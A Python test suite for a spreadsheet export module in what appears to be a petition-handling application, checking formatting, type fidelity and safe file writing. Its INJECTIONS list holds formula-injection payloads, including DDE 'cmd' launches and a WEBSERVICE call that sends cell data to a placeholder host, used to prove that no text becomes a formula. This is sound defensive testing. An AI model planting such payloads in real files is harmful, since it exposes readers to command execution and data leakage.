from __future__ import annotations

import errno
import hashlib
import html
import os
import re
import tempfile
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from python_calamine import CalamineWorkbook

from petition_desk.exchange import table_sheet, table_writer
from petition_desk.exchange.cells import CellValue
from petition_desk.exchange.sheet_style import MAX_CELL_LENGTH, CellKind, text_width
from petition_desk.exchange.table_writer import (
    Table,
    TableColumn,
    TooManyRowsError,
    ledger_workbook,
    write_tables,
)
from petition_desk.exchange.whole_file import FileUnwritableError

COLUMNS = [("编号", "text"), ("收到日期", "date"), ("人数", "int"), ("证件号码", "id")]
ROW: tuple[CellValue, ...] = ("XF2026-0001", date(2026, 3, 2), 3, "11010519491231002X")

#: What turns into a formula, a command or a link somewhere between here and the reader.
INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid","点我")',
    '=WEBSERVICE("http://example.invalid/?q="&A1)',
    '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "=",
    "==",
    "{=1+1}",
    "'=1+1",
    "#N/A",
    "#REF!",
    "TRUE",
    "1E5",
    "00123",
    "2026-03-02",
    "123456789012345678",
]


def sheet_of(path: Path, title: str | None = None) -> Worksheet:
    book = load_workbook(path)
    sheet = book[title] if title else book.active
    assert isinstance(sheet, Worksheet)
    return sheet


def part(path: Path, name: str = "xl/worksheets/sheet1.xml") -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name).decode()


def as_written(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\t", " ")


def test_values_come_back_as_what_they_are(tmp_path: Path) -> None:
    written = ledger_workbook(
        tmp_path / "台账.xlsx", COLUMNS, [ROW, ("", None, None, "")], title="台账"
    )
    assert written is not None
    assert (written.path, written.row_count) == (tmp_path / "台账.xlsx", 2)
    assert written.sha256 == hashlib.sha256(written.path.read_bytes()).hexdigest()
    rows = CalamineWorkbook.from_path(written.path).get_sheet_by_index(0).to_python()
    assert rows[0] == [title for title, _ in COLUMNS]
    assert rows[1] == ["XF2026-0001", date(2026, 3, 2), 3.0, "11010519491231002X"]
    cells = sheet_of(written.path)[2]
    assert [cell.data_type for cell in cells] == ["s", "d", "n", "s"]
    assert [cell.number_format for cell in cells] == ["@", "yyyy-mm-dd", "0", "@"]


@pytest.mark.parametrize("kind", ["text", "id", "date", "int", "any"])
@pytest.mark.parametrize("text", INJECTIONS)
def test_no_text_ever_becomes_a_formula(tmp_path: Path, kind: str, text: str) -> None:
    path = tmp_path / "台账.xlsx"
    assert ledger_workbook(path, [(text, kind)], [(text,)], title=text)
    expected = as_written(text)
    assert CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python() == [
        [expected],
        [expected],
    ]
    for row in sheet_of(path).iter_rows():
        assert [(cell.value, cell.data_type) for cell in row] == [(expected, "s")]
    assert not re.search(r"<f[ >/]", part(path))
    assert sheet_of(path)["A2"].quotePrefix  # Excel's own mark: not even editing makes it one


@given(st.text(max_size=60), st.text("=+-@\t\r\n'|(1A!)", max_size=12))
@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_text_comes_back_as_text(tmp_path: Path, text: str, formula: str) -> None:
    path = tmp_path / "任意.xlsx"
    assert ledger_workbook(path, [("内容", "text")], [(text + "x",), (formula + "x",)], title="t")
    values = [cell.value for row in sheet_of(path).iter_rows(min_row=2) for cell in row]
    assert all(isinstance(value, str) for value in values)
    assert all(cell.data_type == "s" for row in sheet_of(path).iter_rows() for cell in row)
    assert str(values[1]) == as_written(formula + "x")


def test_control_characters_do_not_reach_the_file(tmp_path: Path) -> None:
    path = tmp_path / "台账.xlsx"
    assert ledger_workbook(
        path, [("内\x07容", "text")], [("张\x00三\x1f\ufffe",)], title="台\x01账"
    )
    assert CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python() == [
        ["内容"],
        ["张三"],
    ]


def test_a_text_too_long_for_a_cell_says_that_it_was_cut(tmp_path: Path) -> None:
    path = tmp_path / "长.xlsx"
    assert ledger_workbook(path, [("内容", "text")], [("长" * 40_000,)], title="长")
    value = sheet_of(path)["A2"].value
    assert isinstance(value, str)
    assert len(value) == MAX_CELL_LENGTH
    assert value.endswith("…（超出单元格上限，未完）")


def test_the_sheet_is_ready_to_be_read_filtered_and_printed(tmp_path: Path) -> None:
    path = tmp_path / "台账.xlsx"
    assert ledger_workbook(path, COLUMNS, [ROW] * 3, title="2026年台账 & 附表")
    sheet = sheet_of(path)
    assert sheet.title == "2026年台账 & 附表"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:D4"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    assert str(sheet.page_setup.paperSize) == "9"
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr is not None
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    xml = html.unescape(part(path))
    # The size and a title that begins with a figure must not run together.
    assert "<oddHeader>&C&14 2026年台账 && 附表</oddHeader>" in xml
    assert "<oddFooter>&C&9 第 &P 页，共 &N 页</oddFooter>" in xml
    assert sheet["A1"].font.bold
    assert sheet["A1"].border.bottom.style == "thin"


def test_columns_are_as_wide_as_their_content_and_a_chinese_character_counts_two(
    tmp_path: Path,
) -> None:
    path = tmp_path / "台账.xlsx"
    rows = [("某某县东门街道李家湾", date(2026, 3, 2), 3, "x" * 200)]
    assert ledger_workbook(path, COLUMNS, rows, title="台账")
    dimensions = sheet_of(path).column_dimensions
    assert [dimensions[letter].width for letter in "ABCD"] == [21, 11, 7, 44]
    assert sheet_of(path)["D2"].alignment.wrap_text
    assert not sheet_of(path)["A2"].alignment.wrap_text
    assert text_width("中a\nｆull") == 5


def test_names_of_sheets_are_made_to_fit_and_kept_apart(tmp_path: Path) -> None:
    path = tmp_path / "多表.xlsx"
    titles = ["2026/1-10月[在办]:*?\\", "台账", "台账", "长" * 40, ""]
    tables = [Table(title, (TableColumn("列"),), [("甲",)]) for title in titles]
    written = write_tables(path, tables)
    assert written is not None
    assert written.row_count == 5
    names = load_workbook(path).sheetnames
    assert names[:2] == ["2026 1-10月 在办", "台账"]
    assert len(set(names)) == 5
    assert all(0 < len(name) <= 31 for name in names)


def test_a_table_without_rows_is_a_header(tmp_path: Path) -> None:
    written = ledger_workbook(tmp_path / "空.xlsx", COLUMNS, [], title="空")
    assert written is not None
    assert written.row_count == 0
    assert sheet_of(written.path).auto_filter.ref == "A1:D1"


def test_days_with_a_time_are_days_and_a_word_in_a_date_column_stays_a_word(
    tmp_path: Path,
) -> None:
    path = tmp_path / "日.xlsx"
    rows = [(datetime(2026, 3, 2, 10),), ("暂定",)]  # noqa: DTZ001 - a sheet's time has no zone
    assert ledger_workbook(path, [("日期", "date")], rows, title="日")
    assert CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python() == [
        ["日期"],
        [date(2026, 3, 2)],
        ["暂定"],
    ]


def test_a_row_of_the_wrong_length_is_a_bug_and_leaves_nothing(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="zip"):
        ledger_workbook(tmp_path / "短.xlsx", COLUMNS, [ROW[:3]], title="短")
    assert list(tmp_path.iterdir()) == []


def test_an_unknown_kind_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="picture"):
        ledger_workbook(tmp_path / "图.xlsx", [("图", "picture")], [], title="图")


def endless() -> Iterator[tuple[CellValue, ...]]:
    while True:
        yield ROW


def test_cancelled_it_leaves_the_old_file_and_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "台账.xlsx"
    path.write_bytes(b"old")
    told: list[tuple[int, int]] = []
    result = ledger_workbook(
        path,
        COLUMNS,
        endless(),
        title="台账",
        row_total=1000,
        progress=lambda done, total: told.append((done, total)),
        cancelled=lambda: len(told) == 3,
    )
    assert result is None
    assert told == [(200, 1000), (400, 1000), (600, 1000)]
    assert list(tmp_path.iterdir()) == [path]
    assert path.read_bytes() == b"old"


def test_cancelled_at_the_last_moment_the_old_file_stands(tmp_path: Path) -> None:
    path = tmp_path / "台账.xlsx"
    path.write_bytes(b"old")
    assert ledger_workbook(path, COLUMNS, [ROW], title="台账", cancelled=lambda: True) is None
    assert path.read_bytes() == b"old"


def test_progress_ends_with_what_was_written(tmp_path: Path) -> None:
    told: list[tuple[int, int]] = []
    ledger_workbook(
        tmp_path / "台账.xlsx",
        COLUMNS,
        [ROW] * 450,
        title="台账",
        row_total=450,
        progress=lambda done, total: told.append((done, total)),
    )
    assert told == [(200, 450), (400, 450), (450, 450)]


def test_a_fault_among_the_rows_leaves_the_old_file_and_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "台账.xlsx"
    path.write_bytes(b"old")

    def broken() -> Iterator[tuple[CellValue, ...]]:
        for _ in range(500):
            yield ROW
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError, match="went away"):
        ledger_workbook(path, COLUMNS, broken(), title="台账")
    assert list(tmp_path.iterdir()) == [path]
    assert path.read_bytes() == b"old"


def test_a_full_disk_is_named_and_nothing_is_changed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "台账.xlsx"
    path.write_bytes(b"old")

    class FullDisk:
        """A file on a disk with room for a few kilobytes."""

        def __init__(self, part_path: Path) -> None:
            self._file = part_path.open("wb")
            self._left = 20_000

        def write(self, piece: bytes) -> None:
            self._left -= len(piece)
            if self._left < 0:
                raise OSError(errno.ENOSPC, "No space left on device")
            self._file.write(piece)

        def close(self) -> None:
            self._file.close()

    monkeypatch.setattr(table_sheet, "open_part", FullDisk)
    with pytest.raises(FileUnwritableError) as caught:
        ledger_workbook(path, COLUMNS, [ROW] * 5000, title="台账")
    assert caught.value.is_disk_full
    assert caught.value.exit_code == 5
    assert str(caught.value) == "不能写入 台账.xlsx：磁盘空间不足。"
    assert list(tmp_path.iterdir()) == [path]
    assert path.read_bytes() == b"old"


def test_a_folder_that_is_not_there_and_a_place_taken_by_a_folder_are_named(
    tmp_path: Path,
) -> None:
    with pytest.raises(FileUnwritableError, match="文件夹不存在"):
        ledger_workbook(tmp_path / "没有" / "台账.xlsx", COLUMNS, [ROW], title="台账")
    (tmp_path / "台账.xlsx").mkdir()
    with pytest.raises(FileUnwritableError, match="没有写入权限，或者文件正被 Excel 打开"):
        ledger_workbook(tmp_path / "台账.xlsx", COLUMNS, [ROW], title="台账")
    assert [child.name for child in tmp_path.iterdir()] == ["台账.xlsx"]


def test_more_rows_than_a_sheet_holds_are_refused_by_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(table_writer, "MAX_ROWS", 400)
    with pytest.raises(TooManyRowsError) as caught:
        ledger_workbook(tmp_path / "多.xlsx", COLUMNS, endless(), title="全部")
    assert str(caught.value) == "全部：超过 Excel 一张表的上限 399 行，请分期导出。"
    assert list(tmp_path.iterdir()) == []


def test_nothing_of_a_table_lies_in_the_system_folder_for_temporary_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    elsewhere = tmp_path / "temp"
    elsewhere.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(elsewhere))
    target = tmp_path / "out"
    target.mkdir()
    seen: set[str] = set()

    def watched() -> Iterator[tuple[CellValue, ...]]:
        for _ in range(2000):
            seen.update(child.name for child in elsewhere.rglob("*"))
            yield ROW

    assert ledger_workbook(target / "台账.xlsx", COLUMNS, watched(), title="台账")
    assert seen == set()
    assert list(elsewhere.iterdir()) == []
    assert [child.name for child in target.iterdir()] == ["台账.xlsx"]


def test_what_a_killed_program_left_behind_is_swept_away_a_day_later(tmp_path: Path) -> None:
    for name, age in ((".petition-desk-old", 90_000), (".petition-desk-new", 600)):
        folder = tmp_path / name
        folder.mkdir()
        (folder / "0.part").write_text("张三", encoding="utf-8")
        then = tmp_path.stat().st_mtime - age
        os.utime(folder, (then, then))
    (tmp_path / "材料").mkdir()
    os.utime(tmp_path / "材料", (0, 0))
    assert ledger_workbook(tmp_path / "台账.xlsx", COLUMNS, [ROW], title="台账")
    assert {child.name for child in tmp_path.iterdir()} == {
        "材料",
        "台账.xlsx",
        ".petition-desk-new",
    }


def test_a_column_of_mixed_values_keeps_each_as_it_is(tmp_path: Path) -> None:
    path = tmp_path / "错误行.xlsx"
    moment = datetime(2026, 3, 1, 10, 0)  # noqa: DTZ001 - a sheet's time has no zone
    values: list[CellValue] = ["=1+1", 3, 2.5, True, date(2026, 3, 2), moment, None, "2026.3.2"]
    table = Table("错", (TableColumn("原值", CellKind.ANY),), [(value,) for value in values])
    assert write_tables(path, [table])
    rows = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()
    assert [row[0] for row in rows[1:]] == [
        "=1+1",
        3.0,
        2.5,
        "是",
        date(2026, 3, 2),
        moment,
        "",
        "2026.3.2",
    ]
